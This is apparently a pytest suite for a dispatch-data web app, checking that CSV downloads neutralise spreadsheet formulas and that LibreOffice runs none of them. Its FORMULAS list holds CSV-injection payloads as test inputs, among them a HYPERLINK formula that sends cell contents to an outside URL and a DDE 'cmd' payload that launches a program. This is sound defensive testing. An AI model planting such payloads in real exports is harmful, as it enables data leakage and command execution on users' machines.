"""Text that a spreadsheet would run travels through a real refresh, and comes out of every file harmless."""

import csv
import shutil
import subprocess
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from app.config import Settings
from app.db import Snapshot, Warehouse
from app.downloads.formulas import harmless
from app.downloads.row_files import ROW_FILES
from app.main import create_app
from tests.app.downloaded import csv_rows, parquet_table
from tests.etl.exports import row, write_json
from tests.served import publish

FORMULAS = (
    '=HYPERLINK("https://example.org?"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)
TEXTS = (
    *("clearance", "call_source", "priority", "initial_call_type", "final_call_type", "precinct", "sector", "beat"),
    *("neighborhood", "response_category", "origin", "received"),
)
"""The columns of an export that hold text of any kind."""
OPENED = {
    "events": "/download/events.csv",
    "unit_responses": "/download/unit_responses.csv",
    "care_calls": "/api/v1/metrics/care_calls.csv?by=clearance&count=all",
}
SPREADSHEET = shutil.which("soffice")


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Publish events with a formula in every text column, event number and call sign included."""
    folder = tmp_path_factory.mktemp("formulas")
    rows = [
        row(formula, event=f"{formula}{number}", **dict.fromkeys(TEXTS, formula))
        for number, formula in enumerate(FORMULAS)
    ]
    calls = [  # of CARE, so that numbers are broken down by formulas
        row("CARE1", event=f"202500060000{number}", **dict.fromkeys(TEXTS, formula) | {"origin": "DISPATCH"})
        for number, formula in enumerate(FORMULAS)
    ]
    late = {"dispatched_at": "2025-11-03 13:59:00", "arrived_at": "2025-11-03 13:58:00"}
    plain = row("CARE1", event="2025000500001", **late)  # sent before it was queued: seconds are negative
    publish(folder / "warehouse", write_json(folder / "export.json", *rows, *calls, plain))
    return folder / "warehouse"


@pytest.fixture(scope="module")
def snapshot(warehouse: Path) -> Snapshot:
    return Warehouse(Settings(warehouse)).current()


@pytest.fixture(scope="module")
def client(warehouse: Path) -> FlaskClient:
    tester: FlaskClient = create_app(Settings(warehouse)).server.test_client()
    return tester


def test_formulas_are_in_every_text_column_of_the_snapshot(snapshot: Snapshot) -> None:
    for name in TEXTS:
        held = {value for (value,) in snapshot.rows(f"SELECT {name} FROM event")}
        assert len(held & set(FORMULAS)) >= len(FORMULAS) - 2, name  # blanks around text may go as it is read
    assert any(number.startswith("=") for (number,) in snapshot.rows("SELECT event_number FROM event"))


@pytest.mark.parametrize("name", ROW_FILES)
def test_no_cell_of_csv_begins_as_a_formula_does_and_numbers_are_numbers(
    client: FlaskClient, snapshot: Snapshot, name: str
) -> None:
    header, *rows = csv_rows(client.get(f"/download/{name}.csv").text)
    told = parquet_table(client, f"/download/{name}.parquet").to_pylist()
    columns = ROW_FILES[name].columns(snapshot)
    assert header == [column.name for column in columns]
    made_harmless = negative = 0
    for cells, values in zip(rows, told, strict=True):
        for column, cell in zip(columns, cells, strict=True):
            value = values[column.name]
            if column.type == "string":
                assert cell == harmless(value or "")
                made_harmless += cell != (value or "")
            elif value is not None and column.type in ("integer", "number"):
                assert float(cell) == value
                negative += value < 0
    assert made_harmless >= len(FORMULAS)
    assert negative or name == "unit_responses"


def test_parquet_holds_text_as_it_is(client: FlaskClient) -> None:
    held = set(parquet_table(client, "/download/events.parquet").column("clearance").to_pylist())
    assert {"=1+1", "+1+1", "-1+1", "@SUM(1,1)"} <= held


@pytest.mark.parametrize("by", ["clearance", "call_type", "precinct", "beat", "neighborhood", "priority"])
def test_a_numbers_file_is_harmless_too(client: FlaskClient, by: str) -> None:
    _, *rows = csv_rows(client.get(f"/api/v1/metrics/care_calls.csv?by={by}").text)
    assert sum(row[0].startswith("'") for row in rows) >= len(FORMULAS) - 2
    assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)


@pytest.mark.skipif(not SPREADSHEET, reason="LibreOffice (soffice) is not installed")
def test_a_spreadsheet_shows_every_cell_as_it_was_written_and_runs_none(client: FlaskClient, tmp_path: Path) -> None:
    written = {name: client.get(address).data for name, address in OPENED.items()}
    opened = _opened(tmp_path, written | {"control": b"a,b\r\n=1+1,x\r\n"})
    assert opened["control"][1] == ["2", "x"], "what is not made harmless would run"
    for name, data in written.items():
        harmful = [
            (cell, shown)
            for cells, all_shown in zip(csv_rows(data.decode()), opened[name], strict=True)
            for cell, shown in zip(cells, all_shown, strict=True)
            if cell.startswith("'")
        ]
        assert len(harmful) >= len(FORMULAS) - 2
        assert all(shown.strip() == cell.replace("\r", "\n").strip() for cell, shown in harmful)


def _opened(folder: Path, files: dict[str, bytes]) -> dict[str, list[list[str]]]:
    """Open CSV files as a spreadsheet does, formulas worked out, and read what its cells show."""
    for name, data in files.items():
        (folder / f"{name}.csv").write_bytes(data)
    # Comma, quote, UTF-8, from the first line; numbers are detected and formulas run as a file comes in.
    reading, writing = "CSV:44,34,76,1,,0,false,true,false,true", "csv:Text - txt - csv (StarCalc):44,34,76,1"
    command = [str(SPREADSHEET), f"-env:UserInstallation=file://{folder}/profile", "--headless"]
    command += ["--convert-to", writing, f"--infilter={reading}", "--outdir", str(folder / "shown")]
    paths = [str(folder / f"{name}.csv") for name in files]
    subprocess.run([*command, *paths], check=True, capture_output=True, timeout=120)
    return {name: _read(folder / "shown" / f"{name}.csv") for name in files}


def _read(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8", newline="") as opened:
        return list(csv.reader(opened))
